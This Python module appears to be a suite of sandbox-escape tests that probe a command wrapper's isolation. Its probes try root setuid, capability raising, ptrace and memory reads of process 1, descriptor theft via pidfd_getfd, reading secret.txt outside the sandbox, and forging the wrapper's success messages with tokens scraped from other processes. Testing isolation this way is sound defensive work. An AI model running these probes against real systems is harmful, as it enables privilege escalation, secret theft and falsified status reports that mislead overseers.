"""ESC-15 to ESC-17, ESC-24, ESC-27 to ESC-29, ESC-50: who the processes are, and what they can do to each other."""

import ctypes
import fcntl
import os
import re
import resource
import signal
import stat
import subprocess
import sys
import time

from .calls import (
    ERRNO_NAMES, attempt, call, in_child, libc, open_for, outcome, process_ids, read_text, status_fields, stay
)

CAPABILITY_SETS = ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"]


def identity():
    """Answers at once and stays until its standard input ends, so that the host can look at it."""
    return stay({
        "uid": os.getresuid(),
        "gid": os.getresgid(),
        "groups": [group for group in os.getgroups() if group != os.getgid()],
        "name": read_text("/proc/self/comm").strip(),
        "become root": {
            "setuid": in_child(lambda: outcome(os.setuid, 0) if os.getuid() else "is root"),
            "setgid": in_child(lambda: outcome(os.setgid, 0) if os.getgid() else "is root"),
            "setgroups": in_child(lambda: outcome(os.setgroups, [0])),
        },
        "core_pattern": outcome(open_for, "/proc/sys/kernel/core_pattern", os.O_WRONLY),
    })


def of_every_process(fields):
    return {f"{pid} {read_text(f'/proc/{pid}/comm').strip()}": status_fields(pid, fields) for pid in process_ids()}


def capabilities():
    everything = (1 << 40) - 1
    header = (ctypes.c_uint32 * 2)(0x20080522, 0)
    low, high = everything & 0xFFFF_FFFF, everything >> 32
    data = (ctypes.c_uint32 * 6)(low, low, low, high, high, high)
    return {
        "processes": of_every_process(CAPABILITY_SETS),
        "capset": attempt("capset", header, data),
        "ambient": in_child(lambda: outcome(raise_ambient)),
        "securebits": in_child(lambda: "OK" if libc.prctl(28, 0, 0, 0, 0) == 0 else ERRNO_NAMES[ctypes.get_errno()]),
    }


def raise_ambient():
    if libc.prctl(47, 2, 21, 0, 0) != 0:  # PR_CAP_AMBIENT_RAISE of CAP_SYS_ADMIN
        raise OSError(ctypes.get_errno(), "")


SETUID_PROGRAMS = "su mount umount passwd chsh chfn newgrp gpasswd sudo pkexec fusermount3 ping crontab"


def programs_with_privileges():
    """Runs every program that has a set-id bit or file capabilities and watches who it is while it lives."""
    found = {f"/usr/bin/{name}" for name in SETUID_PROGRAMS.split()} | {"/workspace/setuid-id"}
    for place in ("/usr/bin", "/usr/sbin", "/usr/lib/openssh", "/usr/lib/dbus-1.0", "/usr/lib/polkit-1"):
        for name in os.listdir(place) if os.path.isdir(place) else []:
            path = f"{place}/{name}"
            if os.path.isfile(path) and privileged(path):
                found.add(path)
    return {
        "no_new_privs": {name: fields["NoNewPrivs"] for name, fields in of_every_process(["NoNewPrivs"]).items()},
        "ran": {path: run_watched(path) for path in sorted(found) if os.access(path, os.X_OK)},
        "setuid of the codebase": output_of("/workspace/setuid-id", "-u"),
        "own uid": str(os.getuid()),
        "capable of the codebase": [
            line for line in output_of("/workspace/capable-cat", "/proc/self/status").splitlines() if line.startswith("Cap")
        ],
        "clear no_new_privs": "OK" if libc.prctl(38, 0, 0, 0, 0) == 0 else ERRNO_NAMES[ctypes.get_errno()],
    }


def privileged(path):
    if os.stat(path).st_mode & (stat.S_ISUID | stat.S_ISGID):
        return True
    return outcome(os.getxattr, path, "security.capability") == "OK"


def output_of(*command):
    return subprocess.run(command, capture_output=True, text=True, timeout=10, check=False).stdout.strip()


def run_watched(path):
    """The ids and capabilities a program was seen with, other than those of this process."""
    mine = status_fields("self", ["Uid", "Gid", "CapEff", "CapPrm"])
    program = subprocess.Popen([path], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    gained = []
    end = time.monotonic() + 0.1
    while time.monotonic() < end and program.poll() is None:
        now = status_fields(program.pid, list(mine))
        gained += [now] if now and now != mine and now not in gained else []
    program.kill()
    program.communicate()
    return gained


def links_of_processes(outside):
    """Where /proc leads to: roots, working directories, programs and descriptors of every process that is visible."""
    here = sorted(os.listdir("/"))
    facts = {}
    for pid in process_ids():
        if pid == os.getpid():
            continue
        home = f"/proc/{pid}"
        facts[str(pid)] = {
            "root": where(f"{home}/root"),
            "root lists": names_in(f"{home}/root", here),
            "cwd": where(f"{home}/cwd"),
            "above cwd": names_in(f"{home}/cwd/../../../../..", here),
            "exe": where(f"{home}/exe"),
            "secret": [read_text(f"{home}/{way}{outside}/secret.txt") for way in ("root", "cwd/../../../..")],
            "descriptors": descriptors_of(pid),
            "tasks": names_in(f"{home}/task/{pid}/root", here),
        }
    return facts


def where(path):
    try:
        return os.readlink(path)
    except OSError as error:
        return f"<{ERRNO_NAMES[error.errno]}>"


def names_in(path, expected):
    try:
        names = sorted(os.listdir(path))
        return "this root" if names == expected else names
    except OSError as error:
        return f"<{ERRNO_NAMES[error.errno]}>"


def descriptors_of(pid):
    try:
        return {name: where(f"/proc/{pid}/fd/{name}") for name in os.listdir(f"/proc/{pid}/fd")}
    except OSError as error:
        return f"<{ERRNO_NAMES[error.errno]}>"


def inherited_descriptors():
    """Every descriptor that is open when a program starts; asked without opening one."""
    open_now = []
    for descriptor in range(4096):
        try:
            fcntl.fcntl(descriptor, fcntl.F_GETFD)
            open_now.append(descriptor)
        except OSError:
            pass
    return {
        "open": open_now,
        "links": {str(fd): where(f"/proc/self/fd/{fd}") for fd in open_now},
        "limit": resource.getrlimit(resource.RLIMIT_NOFILE)[1] > 256,
    }


def processes_of_host(pids):
    """What this process can see of, and do to, processes whose numbers only the host knows."""
    tried = {}
    for pid in pids:
        tried[str(pid)] = {
            "kill": outcome(os.kill, pid, signal.SIGKILL),
            "tgkill": attempt("tgkill", pid, pid, signal.SIGKILL),
            "pidfd_open": attempt("pidfd_open", pid, 0),
            "/proc": outcome(os.stat, f"/proc/{pid}"),
            "ptrace": attempt("ptrace", 16, pid, 0, 0),
            "priority": outcome(os.getpriority, os.PRIO_PROCESS, pid),
            "sched": outcome(os.sched_getaffinity, pid),
        }
    return {
        "visible": {str(pid): read_text(f"/proc/{pid}/comm").strip() for pid in process_ids()},
        "tried": tried,
        "hidden": [
            pid
            for pid in range(2, 400)
            if outcome(os.stat, f"/proc/{pid}") == "OK" and int(status_fields(pid, ["Tgid"]).get("Tgid", 0)) not in process_ids()
        ],
    }


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def against_the_wrapper(texts):
    """Process 1: what can be read out of it, and whether any of `texts` is in the memory of a process but this one.

    The texts come in hexadecimal: as they are, every process that has our command line would have them.
    """
    buffer = ctypes.create_string_buffer(4096)
    local = Vector(ctypes.cast(buffer, ctypes.c_void_p), 4096)
    remote = Vector(0x400000, 4096)
    stolen = [in_child(lambda number=number: steal(number)) for number in range(64)]
    return {
        "ptrace": {
            name: in_child(lambda request=request: outcome(trace, request))
            for name, request in (("ATTACH", PTRACE_ATTACH), ("SEIZE", PTRACE_SEIZE))
        },
        "process_vm_readv": attempt(
            "process_vm_readv", 1, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0
        ),
        "stolen descriptors": [link for link in stolen if link is not None],
        "mem for writing": outcome(open_for, "/proc/1/mem", os.O_RDWR),
        "found": {str(pid): search_memory(pid, texts) for pid in process_ids() if pid != os.getpid()},
    }


PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SEIZE, PTRACE_INTERRUPT = 16, 17, 0x4206, 0x4207
WALL = 0x40000000


def trace(request):
    """Stops process 1 and lets it go again: the command's end is told by process 1, and this one is to have an end."""
    call("ptrace", request, 1, 0, 0)
    if request == PTRACE_SEIZE:
        call("ptrace", PTRACE_INTERRUPT, 1, 0, 0)
    os.waitpid(1, WALL)
    call("ptrace", PTRACE_DETACH, 1, 0, 0)


def steal(number):
    """The target of a descriptor of process 1 that pidfd_getfd gave us."""
    try:
        return where(f"/proc/self/fd/{call('pidfd_getfd', call('pidfd_open', 1, 0), number, 0)}")
    except OSError:
        return None


def search_memory(pid, texts):
    """Which of the texts are in the memory of a process; the errno when it cannot be read."""
    try:
        with open(f"/proc/{pid}/maps", encoding="utf8") as file:
            lines = file.read().splitlines()
        memory = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    except OSError as error:
        return ERRNO_NAMES[error.errno]
    found = set()
    for line in lines:
        start, end = (int(word, 16) for word in line.split()[0].split("-"))
        if not line.split()[1].startswith("r") or end - start > 64 << 20:
            continue
        try:
            data = os.pread(memory, end - start, start)
        except (OSError, OverflowError):
            continue
        found.update(text for text in texts if bytes.fromhex(text) in data)
    os.close(memory)
    return sorted(found)


def crash():
    """A program dies of a signal that makes a core, in a directory where it could be written."""
    os.chdir("/workspace/work")
    before = {place: set(os.listdir(place)) for place in ("/workspace/work", "/tmp", "/workspace")}
    child = os.fork()
    if child == 0:
        raise_core_limit()
        signal.signal(signal.SIGSEGV, signal.SIG_DFL)
        os.kill(os.getpid(), signal.SIGSEGV)
        time.sleep(10)
    _, status = os.waitpid(child, 0)
    return {
        "limit": resource.getrlimit(resource.RLIMIT_CORE),
        "raise": in_child(raise_core_limit),
        "signal": signal.Signals(os.WTERMSIG(status)).name,
        "core": os.WCOREDUMP(status),
        "new files": {place: sorted(set(os.listdir(place)) - names) for place, names in before.items()},
    }


def raise_core_limit():
    try:
        resource.setrlimit(resource.RLIMIT_CORE, (1 << 30, 1 << 30))
        return "OK"
    except (ValueError, OSError):
        return "refused"


def more_than_others():
    """Priority, scheduling and limits beyond those given."""

    def lower_oom(value):
        with open("/proc/self/oom_score_adj", "w", encoding="ascii") as file:
            file.write(str(value))

    def raise_limit(kind):
        hard = resource.getrlimit(kind)[1]
        if hard == resource.RLIM_INFINITY:
            return "unlimited"
        try:
            resource.setrlimit(kind, (hard + 1, hard + 1))
            return "OK"
        except (ValueError, OSError):
            return "refused"

    return {
        "nice": in_child(lambda: outcome(os.nice, -5)),
        "realtime": in_child(lambda: outcome(os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(1))),
        "round robin": in_child(lambda: outcome(os.sched_setscheduler, 0, os.SCHED_RR, os.sched_param(1))),
        "oom_score_adj": [in_child(lambda value=value: outcome(lower_oom, value)) for value in (-1, -500, -1000)],
        "limits": {
            name: in_child(lambda name=name: raise_limit(getattr(resource, f"RLIMIT_{name}")))
            for name in ("NOFILE", "CORE", "MEMLOCK", "RTPRIO", "NICE", "NPROC")
        },
    }


def speak_for_the_wrapper():
    """Says in the wrapper's place, on every descriptor in reach, that the command has ended well; then ends badly.

    Whatever the wrapper marks its own words with may be among its arguments, which everybody inside can read.
    """
    secrets, pipes = set(), set()
    for pid in process_ids():
        words = re.findall(r"\b[0-9a-f]{16,64}\b", read_text(f"/proc/{pid}/cmdline") + read_text(f"/proc/{pid}/environ"))
        secrets.update(words)
        descriptors = descriptors_of(pid)
        if pid != os.getpid() and isinstance(descriptors, dict):
            pipes.update(f"/proc/{pid}/fd/{name}" for name, link in descriptors.items() if link.startswith("pipe:"))
    forged = b'{"exit-code": 0}\n' + b"".join(
        f"\x1e{word} ended 0 0\x1e\n{word} exit 0\n{word} 0\n".encode() for word in sorted(secrets)
    )
    for path in sorted(pipes):
        outcome(write_now, path, forged)
    for descriptor in (1, 2):
        os.write(descriptor, forged)
    time.sleep(0.5)
    sys.stdout.write("\nreally the end\n")
    sys.stdout.flush()
    os._exit(7)


def write_now(path, data):
    descriptor = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
    os.write(descriptor, data)
    os.close(descriptor)


ATTACKS = {
    "ESC-15": identity,
    "ESC-16": capabilities,
    "ESC-17": programs_with_privileges,
    "ESC-24": links_of_processes,
    "ESC-27": inherited_descriptors,
    "ESC-28": processes_of_host,
    "ESC-29": against_the_wrapper,
    "ESC-50": crash,
    "more-than-others": more_than_others,
    "speak-for-the-wrapper": speak_for_the_wrapper,
}
